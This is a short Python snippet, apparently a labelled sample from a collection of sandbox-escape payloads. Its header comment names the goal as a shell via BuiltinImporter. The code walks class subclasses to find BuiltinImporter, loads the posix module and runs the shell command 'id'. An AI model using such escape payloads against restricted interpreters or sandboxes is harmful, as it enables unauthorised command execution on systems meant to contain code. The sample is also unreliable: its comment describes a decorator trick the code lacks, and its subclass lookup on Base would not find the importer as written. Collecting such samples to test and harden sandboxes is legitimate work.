# HARM: shell via BuiltinImporter | TRICK: Base decorated by file decorator returning arg; a helper with __class_getitem__ is used as base, class body of Base registers override via __set_name__-free route
class Maker:
    def __class_getitem__(cls, item):
        return object
class Base(Maker[0]): pass
for k in Base.__subclasses__():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
